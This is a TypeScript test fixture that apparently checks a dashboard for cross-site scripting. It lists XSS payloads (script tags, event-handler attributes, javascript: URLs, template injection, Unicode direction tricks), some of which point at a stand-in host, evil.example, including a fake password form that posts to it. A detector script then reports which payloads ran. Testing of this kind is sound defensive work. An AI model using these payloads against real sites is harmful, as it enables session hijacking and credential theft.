/** Each payload runs this if it is ever executed: it opens a dialog and sets a variable. */
const STRIKE = "alert(window.pwned=1)";
/** A host that does not exist. A request to it means that a payload worked. */
const EVIL_HOST = "evil.example";

/**
 * Texts of an attacker who wants the dashboard to run, load or misdisplay something. At most 100 characters each, the shortest limit
 * of the fields that contain them.
 */
export const payloads = [
  `<script>${STRIKE}</script>`,
  `"><img src=x onerror=${STRIKE}>`,
  `'><svg onload=${STRIKE}>`,
  `</script><script>${STRIKE}</script>`,
  `</title></style></textarea><img src=x onerror=${STRIKE}>`,
  `javascript:${STRIKE}//`,
  `<a href="javascript:${STRIKE}" autofocus>press me</a>`,
  `{{constructor.constructor('${STRIKE}')()}} \${${STRIKE}}`,
  `<iframe srcdoc="<script>parent.${STRIKE}</script>"></iframe>`,
  `<x onfocus=${STRIKE} autofocus tabindex=1>`,
  `<details open ontoggle=${STRIKE}><summary>x`,
  `<img src=//${EVIL_HOST}/pixel.png><link rel=stylesheet href=//${EVIL_HOST}/a.css>`,
  `<meta http-equiv=refresh content="0;url=//${EVIL_HOST}/"><base href=//${EVIL_HOST}/>`,
  `<form action=//${EVIL_HOST}/><input name=password><button autofocus>Sign in`,
  `&lt;img src=x onerror=${STRIKE}&gt; &#60;svg onload=${STRIKE}&#62;`,
  "\u202Egnp.exe\u202C and \u2067after\u2069 \u200Fthe end",
  "W".repeat(100),
];

/** The same payloads joined into few texts of limited length, because a page for each payload would take minutes. */
export function payloadsJoined(maxLength: number): string[] {
  const joined: string[] = [];
  for (const payload of payloads) {
    const longer = `${joined.at(-1) ?? ""} ${payload}`;
    if (joined.length > 0 && longer.length <= maxLength) joined[joined.length - 1] = longer;
    else joined.push(payload);
  }
  return joined;
}

/** A mailbox with any text as its name (RFC 5322 §3.2.4: a quoted string). */
export function mailboxOf(name: string, address: string): string {
  return `"${name.replace(/["\\]/g, "\\$&")}" <${address}>`;
}

/** Runs in a page: returns the payloads that became elements of the document, or ran. */
export const DAMAGE_ON_PAGE = `(() => {
  const handlers = ["onerror", "onload", "onfocus", "ontoggle"].map((name) => "[" + name + "]").join(",");
  const planted = 'iframe[srcdoc], x, base, meta[http-equiv], a[href^="javascript:" i], [href*="${EVIL_HOST}"], [src*="${EVIL_HOST}"], [action*="${EVIL_HOST}"]';
  return [
    ...[...document.querySelectorAll(handlers + "," + planted)].map((element) => element.outerHTML.slice(0, 200)),
    ...("pwned" in window ? ["a script ran"] : []),
  ];
})()`;
